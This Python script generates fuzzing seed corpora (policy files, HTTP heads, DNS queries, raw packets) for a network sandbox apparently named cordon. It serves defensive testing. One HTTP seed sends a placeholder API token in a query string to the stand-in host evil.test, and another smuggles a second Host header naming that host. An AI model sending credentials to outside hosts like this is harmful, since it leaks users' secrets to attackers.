#!/usr/bin/env python3
"""Writes the seed corpora under fuzz/corpus/<target>/ from real inputs: the built-in policy
and the policy examples in README.md and docs/, HTTP request heads as curl, npm and an SDK send them,
DNS queries as glibc's stub resolver sends them, and the packets a Linux sandbox sends (a SYN
with its options, a DNS query over UDP, a ping, an ACK). Run it from the repository root;
the files it writes are checked in, so it only needs running when the seeds change."""
import base64
import os
import re
import struct

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "corpus")


def put(target, name, data):
    d = os.path.join(ROOT, target)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, name), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())


# policy_parse: the first byte also picks how the profile is chosen (see the target).
repo = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
with open(os.path.join(repo, "crates/cordon-policy/src/default.toml")) as f:
    put("policy_parse", "default.toml", f.read())
# The policy examples users read: the README, the guides and the policy reference (the
# seeds already checked in keep their names; the guides' add to them).
docs = ["README.md", "docs/policy.md"] + sorted(
    os.path.join("docs/guide", n) for n in os.listdir(os.path.join(repo, "docs/guide"))
)
for doc in docs:
    stem = "readme" if doc == "README.md" else os.path.splitext(os.path.basename(doc))[0]
    with open(os.path.join(repo, doc)) as f:
        for i, block in enumerate(re.findall(r"```toml\n(.*?)```", f.read(), re.S)):
            put("policy_parse", f"{stem}-{i}.toml", block)
put("policy_parse", "not-utf8.toml", b'[network]\nmode = "gat\xffeway"\n')

# http_head: first byte picks the connection (0 api.anthropic.com:443, 1 registry.npmjs.org,
# 2 api.example.test, 3 evil.test:80, 4 upload.example.test:8080).
body = b'{"model":"claude-sonnet-4","max_tokens":16,"messages":[{"role":"user","content":"hi"}]}'
heads = {
    "anthropic-post": b"\x00POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\n"
    b"x-api-key: cordon-ph-0123456789abcdef\r\nanthropic-version: 2023-06-01\r\n"
    b"content-type: application/json\r\ncontent-length: %d\r\n\r\n%s" % (len(body), body),
    "npm-get": b"\x01GET /left-pad HTTP/1.1\r\nHost: registry.npmjs.org\r\n"
    b"user-agent: npm/10.8.2 node/v20.18.0 linux x64 workspaces/false\r\n"
    b"npm-command: install\r\naccept: application/vnd.npm.install-v1+json; q=1.0, "
    b"application/json; q=0.8, */*\r\naccept-encoding: gzip,deflate\r\nconnection: keep-alive\r\n\r\n",
    "npm-audit": b"\x01POST /-/npm/v1/security/advisories/bulk HTTP/1.1\r\nHost: registry.npmjs.org\r\n"
    b"content-type: application/json\r\ncontent-encoding: gzip\r\ncontent-length: 2\r\n\r\n{}",
    "curl-credential": b"\x02GET /v1/items/42?page=2 HTTP/1.1\r\nHost: api.example.test\r\n"
    b"User-Agent: curl/7.88.1\r\nAccept: */*\r\nauthorization: Bearer cordon-ph-0123456789abcdef\r\n\r\n",
    "curl-leak": b"\x03GET /?token=cordon-ph-0123456789abcdef HTTP/1.1\r\nHost: evil.test\r\n"
    b"User-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n",
    "chunked-upload": b"\x04PUT /upload/a%2Fb/../c HTTP/1.1\r\nHost: upload.example.test:8080\r\n"
    b"transfer-encoding: chunked\r\nexpect: 100-continue\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
    "misdirected": b"\x02GET / HTTP/1.1\r\nHost: api.example.test\r\nHost: evil.test\r\n\r\n",
    "websocket": b"\x02GET /v1/items/ws HTTP/1.1\r\nHost: api.example.test\r\nUpgrade: websocket\r\n"
    b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n",
    "pipelined": b"\x01GET /a HTTP/1.1\r\nHost: registry.npmjs.org\r\n\r\n"
    b"HEAD /b HTTP/1.1\r\nHost: registry.npmjs.org\r\n\r\n",
    "basic-auth": b"\x02GET /v2/items/1 HTTP/1.1\r\nHost: api.example.test\r\nAuthorization: Basic "
    + base64.b64encode(b"user:cordon-ph-0123456789abcdef") + b"\r\n\r\n",
}
# An HTTP/2 connection preface, SETTINGS, and a HEADERS frame (HPACK: :method GET, :scheme
# https, :path /, :authority api.example.test as a literal).
authority = b"api.example.test"
hpack = b"\x82\x87\x84\x41" + bytes([len(authority)]) + authority
frame = lambda t, f, sid, p: struct.pack(">I", len(p))[1:] + bytes([t, f]) + struct.pack(">I", sid) + p
heads["h2-get"] = (b"\x02PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"")
                   + frame(1, 5, 1, hpack))
for name, data in heads.items():
    put("http_head", name, data)


# dns_message: DNS-over-TCP framing (u16 length first), several messages per file.
def qname(name):
    return b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\x00"


def query(qid, name, qtype, edns=True):
    head = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 1 if edns else 0)
    q = qname(name) + struct.pack(">HH", qtype, 1)
    opt = b"\x00" + struct.pack(">HHIH", 41, 1232, 0, 0) if edns else b""
    return head + q + opt


def framed(*msgs):
    return b"".join(struct.pack(">H", len(m)) + m for m in msgs)


A, AAAA, HTTPS, AXFR, TXT = 1, 28, 65, 252, 16
put("dns_message", "a-aaaa", framed(query(0x1a2b, "registry.npmjs.org", A), query(0x1a2c, "registry.npmjs.org", AAAA)))
put("dns_message", "https-rr", framed(query(7, "api.anthropic.com", HTTPS)))
put("dns_message", "many-names", framed(*[query(i, f"h{i}.example.com", A) for i in range(12)]))
put("dns_message", "blocked-and-reserved", framed(query(1, "telemetry.example.com", A, False),
                                                  query(2, "x.cordon.internal", A), query(3, "localhost", A)))
put("dns_message", "axfr-txt", framed(query(9, "example.com", AXFR), query(10, "ab" * 30 + ".test", TXT)))
put("dns_message", "compressed-pointer", framed(struct.pack(">HHHHHH", 5, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c\x00\x01\x00\x01"))


# packet: frames of (u16 length, flags, packet); flags 0 (the checksums are right).
def csum(b):
    if len(b) % 2:
        b += b"\x00"
    s = sum(struct.unpack(f">{len(b) // 2}H", b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def ipv4(src, dst, proto, payload, ident=0x4d2):
    h = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0x4000, 64, proto, 0,
                    bytes(src), bytes(dst))
    h = h[:10] + struct.pack(">H", csum(h)) + h[12:]
    return h + payload


def pseudo(src, dst, proto, seg):
    return bytes(src) + bytes(dst) + struct.pack(">BBH", 0, proto, len(seg))


def tcp(src, dst, sport, dport, seq, ack, flags, opts=b"", data=b""):
    off = (20 + len(opts)) // 4
    seg = struct.pack(">HHIIBBHHH", sport, dport, seq, ack, off << 4, flags, 64240, 0, 0) + opts + data
    c = csum(pseudo(src, dst, 6, seg) + seg)
    return ipv4(src, dst, 6, seg[:16] + struct.pack(">H", c) + seg[18:])


def udp(src, dst, sport, dport, data):
    seg = struct.pack(">HHHH", sport, dport, 8 + len(data), 0) + data
    c = csum(pseudo(src, dst, 17, seg) + seg) or 0xFFFF
    return ipv4(src, dst, 17, seg[:6] + struct.pack(">H", c) + seg[8:])


def pframes(*pkts, flags=0):
    return b"".join(struct.pack(">HB", len(p), flags) + p for p in pkts)


me, fake, gw = [10, 0, 2, 100], [198, 18, 0, 5], [198, 18, 0, 1]
# Linux's SYN options: MSS 65480, SACK permitted, timestamps, window scale 7.
syn_opts = b"\x02\x04\xff\xc8\x04\x02\x08\x0a\x00\x01\xe2\x40\x00\x00\x00\x00\x01\x03\x03\x07"
syn = tcp(me, fake, 40000, 443, 1000, 0, 0x02, syn_opts)
ack = tcp(me, fake, 40000, 443, 1001, 1, 0x10)
data = tcp(me, fake, 40000, 443, 1001, 1, 0x18, data=b"\x16\x03\x01\x00\x05hello")
fin = tcp(me, fake, 40000, 443, 1012, 1, 0x11)
put("packet", "tcp-handshake", pframes(syn, ack, data, fin))
put("packet", "dns-over-udp", pframes(udp(me, gw, 53000, 53, query(0x55aa, "pypi.org", A))))
put("packet", "udp-other", pframes(udp(me, fake, 53001, 443, b"\xc0quic")))
icmp = struct.pack(">BBHHH", 8, 0, 0, 0x77, 1) + b"pingdata"
icmp = icmp[:2] + struct.pack(">H", csum(icmp)) + icmp[4:]
put("packet", "ping", pframes(ipv4(me, fake, 1, icmp)))
put("packet", "rst-and-junk", pframes(tcp(me, fake, 40001, 80, 5, 0, 0x04), b"\x60" + b"\x00" * 39, flags=1))

# policy.dict: the policy language's section names and keys, for libFuzzer's -dict.
import glob

keys = set()
for f in [os.path.join(repo, "crates/cordon-policy/src/default.toml")] + glob.glob(
        os.path.join(repo, "crates/cordon-policy/src/sections/*.rs")):
    with open(f) as fh:
        t = fh.read()
    keys.update("[" + m + "]" for m in re.findall(r"^\s*\[\[?([a-z_.]+)\]\]?", t, re.M))
    if f.endswith(".toml"):
        keys.update(m + " = " for m in re.findall(r"^\s*([a-z_]+)\s*=", t, re.M))
with open(os.path.join(repo, "crates/cordon-policy/src/schema.rs")) as fh:
    keys.update(re.findall(r'"([a-z_]+)"', fh.read()))
keys.update(["[[http.rule]]", "[[network.allow]]", "[[exec.rule]]", "[profile.claude]",
             "[credentials.api]", '"~/"', '"$HOME/"', '"${XDG_CONFIG_HOME}"', "= true",
             "= false", "= [", "= {", '"""', "'''", "\n", "until = ", "for = ",
             '"2026-12-31T18:00Z"', '"2h"'])
with open(os.path.join(os.path.dirname(ROOT), "policy.dict"), "w") as fh:
    fh.write("# libFuzzer dictionary for policy_parse: section names and keys (make_seeds.py)\n")
    for k in sorted(keys):
        fh.write('"' + k.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\x0A") + '"\n')
